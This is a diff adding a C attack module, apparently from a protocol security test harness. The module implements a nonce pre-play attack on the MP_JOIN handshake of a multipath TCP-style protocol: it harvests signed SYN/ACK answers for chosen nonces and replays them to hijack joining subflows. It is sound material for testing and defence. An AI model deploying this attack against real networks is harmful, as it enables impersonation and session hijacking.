@@ -1,0 +1,228 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * AT-34: answers of a victim to joins are collected beforehand, D-35. The MAC
+ * of a SYN/ACK covers two nonces, and the responder chose the second: who has
+ * asked with nonce x and kept the answer can answer whoever asks with x later,
+ * in the responder's name. Each question costs the attacker's host a SYN and a
+ * RST; an honest SYN whose nonce it has no answer to passes.
+ */
+#include "atk_inside.h"
+#include "atk_joining.h"
+#include "atk_opts.h"
+#include "atk_table.h"
+#include "mpx_tcp.h"
+
+#include <string.h>
+
+enum {
+    FIRST_PORT = 20000,
+    PORTS = 20000,
+    NONCES = 65536, /* nonces are of 16 bits, else it takes too long */
+    ASKING = 8,     /* at a time */
+    KEPT_MAX = 64,
+};
+#define AGAIN                                                                  \
+    UINT64_C(200000000) /* ns, until what was not answered is asked            \
+                           again */
+
+enum { PAIRS, ADDR_ID };
+static const struct atk_param params[] = {
+    [PAIRS] = {"pairs", ATK_P_COUNT, .initial = 1024, .min = 1, .max = NONCES},
+    [ADDR_ID] = {"address-id", ATK_P_COUNT, .initial = 2, .max = 255},
+    {.name = NULL},
+};
+
+struct answer {
+    bool has;
+    struct mpx_opt_join join;
+};
+struct question {
+    struct atk_tcp tcp;
+    uint32_t nonce;
+    uint64_t at;
+    bool open;
+};
+struct state {
+    struct atk_heards heard;
+    struct answer answer[NONCES];
+    struct question asking[ASKING];
+    unsigned next_port;
+    uint32_t next; /* nonce */
+    struct atk_inside kept[KEPT_MAX];
+    unsigned n_kept;
+};
+
+/* ---- asking ---- */
+
+static void ask(struct atk *a, struct state *st, struct question *q,
+                uint64_t now)
+{
+    const struct atk_heard *h = &st->heard.v[0];
+    struct mpx_opt o = {.subtype = MPX_SUB_JOIN};
+
+    atk_tcp_open_to(&q->tcp, a, &h->ends,
+                    (uint16_t)(FIRST_PORT + st->next_port++ % PORTS));
+    q->at = now;
+    o.u.join.form = MPX_JOIN_SYN;
+    o.u.join.addr_id = (uint8_t)atk_param(a, ADDR_ID);
+    o.u.join.token = h->of[MPX_ROLE_R].token;
+    o.u.join.token_len = h->profile->token_len;
+    o.u.join.nonce = q->nonce;
+    atk_tcp_send_opt(&q->tcp, a, MPX_TCP_SYN, &o, now);
+    atk_count_join(a);
+}
+
+static void ask_next(struct atk *a, struct state *st, struct question *q,
+                     uint64_t now)
+{
+    q->open = st->next < atk_param(a, PAIRS);
+    if (!q->open)
+        return;
+    q->nonce = st->next++;
+    ask(a, st, q, now);
+}
+
+/* Of the first connection it heard of; also the timer. */
+static void act(struct atk *a, void *state, uint64_t now)
+{
+    struct state *st = state;
+
+    if (!st->heard.n)
+        return;
+    for (unsigned i = 0; i < ASKING; i++) {
+        struct question *q = &st->asking[i];
+
+        if (!q->open)
+            ask_next(a, st, q, now);
+        else if (now >= q->at + AGAIN)
+            ask(a, st, q, now);
+    }
+    atk_set_timer(a, now + AGAIN);
+}
+
+static void host(struct atk *a, void *state, const struct atk_flow *f,
+                 const uint8_t *hdr, uint8_t hdr_len, const uint8_t *payload,
+                 size_t len, uint64_t now)
+{
+    struct state *st = state;
+    struct mpx_opt_join j;
+
+    (void)payload;
+    (void)len;
+    for (unsigned i = 0; i < ASKING; i++) {
+        struct question *q = &st->asking[i];
+
+        if (!q->open || !atk_tcp_is(&q->tcp, f) ||
+            !atk_joining_find(hdr, hdr_len, &j) ||
+            !atk_tcp_on_synack(&q->tcp, hdr))
+            continue;
+        atk_spoil(a, j.mac, MPX_MAC64_LEN);
+        st->answer[q->nonce] = (struct answer){true, j};
+        atk_tcp_send(&q->tcp, a, MPX_TCP_RST, NULL, NULL, 0, NULL, 0, now);
+        ask_next(a, st, q, now);
+    }
+}
+
+/* ---- answering ---- */
+
+static struct atk_inside *kept_of(struct state *st, const struct atk_sight *s)
+{
+    for (unsigned i = 0; i < st->n_kept; i++) {
+        const struct atk_flow *f = &st->kept[i].tcp.flow;
+
+        if (f->remote_port == s->sport && f->local_port == s->dport &&
+            !memcmp(f->remote, s->src, s->family == 4 ? 4 : 16))
+            return &st->kept[i];
+    }
+    return NULL;
+}
+
+static const struct atk_heard *heard_of(const struct state *st, uint64_t token)
+{
+    for (unsigned i = 0; i < st->heard.n; i++)
+        if (st->heard.v[i].of[MPX_ROLE_R].token == token)
+            return &st->heard.v[i];
+    return NULL;
+}
+
+/* @return whether it had an answer. */
+static bool answer(struct atk *a, struct state *st, const struct atk_sight *s,
+                   const struct mpx_opt_join *syn, uint64_t now)
+{
+    const struct atk_heard *h = heard_of(st, syn->token);
+    struct mpx_opt o = {.subtype = MPX_SUB_JOIN};
+    struct atk_inside *in = &st->kept[st->n_kept];
+    const struct answer *x;
+
+    if (syn->nonce >= NONCES || st->n_kept == KEPT_MAX || !h)
+        return false;
+    x = &st->answer[syn->nonce];
+    if (!x->has || x->join.key_id != syn->key_id)
+        return false;
+    st->n_kept++;
+    atk_tcp_accept(&in->tcp, a, s);
+    atk_inside_begin(in, h, MPX_ROLE_I);
+    o.u.join = x->join;
+    atk_tcp_send_opt(&in->tcp, a, MPX_TCP_SYN | MPX_TCP_ACK, &o, now);
+    return true;
+}
+
+static void kept_segment(struct atk *a, struct atk_inside *in,
+                         const struct atk_sight *s, uint64_t now)
+{
+    struct mpx_opt o;
+
+    if (atk_opts_find(s, MPX_SUB_JOIN, &o) && o.u.join.form == MPX_JOIN_ACK) {
+        in->tcp.snd_nxt = in->tcp.iss + 1;
+        atk_tcp_send(&in->tcp, a, MPX_TCP_ACK, NULL, NULL, 0, NULL, 0, now);
+    }
+    atk_inside_segment(a, in, s->tcp, (uint8_t)(s->payload - s->tcp),
+                       s->payload_len, now);
+}
+
+static enum atk_verdict see(struct atk *a, void *state,
+                            const struct atk_sight *s, uint64_t now)
+{
+    struct state *st = state;
+    struct atk_inside *in = kept_of(st, s);
+    struct mpx_opt o;
+
+    atk_heards_see(&st->heard, s);
+    if (s->dir != 0)
+        return ATK_PASS;
+    if (in && !(s->flags & (MPX_TCP_SYN | MPX_TCP_RST)))
+        kept_segment(a, in, s, now);
+    if (in)
+        return ATK_DROPPED;
+    return mpx_seg_kind_of(s->flags) == MPX_SEG_SYN &&
+                   atk_opts_find(s, MPX_SUB_JOIN, &o) &&
+                   answer(a, st, s, &o.u.join, now)
+               ? ATK_DROPPED
+               : ATK_PASS;
+}
+
+static void end(void *state)
+{
+    struct state *st = state;
+
+    for (unsigned i = 0; i < ASKING; i++)
+        atk_tcp_free(&st->asking[i].tcp);
+    for (unsigned i = 0; i < st->n_kept; i++)
+        atk_tcp_free(&st->kept[i].tcp);
+    mpx_wipe(st, sizeof *st);
+}
+
+const struct atk_ops atk_nonce_preplay = {
+    .name = "preplay-nonce",
+    .id = "AT-34",
+    .source = "RFC 8684 section 3.2, D-35",
+    .powers = ATK_READ | ATK_DROP | ATK_INJECT | ATK_HOST,
+    .params = params,
+    .spoils = true,
+    .state_size = sizeof(struct state),
+    .see = see,
+    .act = act,
+    .host = host,
+    .timer = act,
+    .end = end,
+};
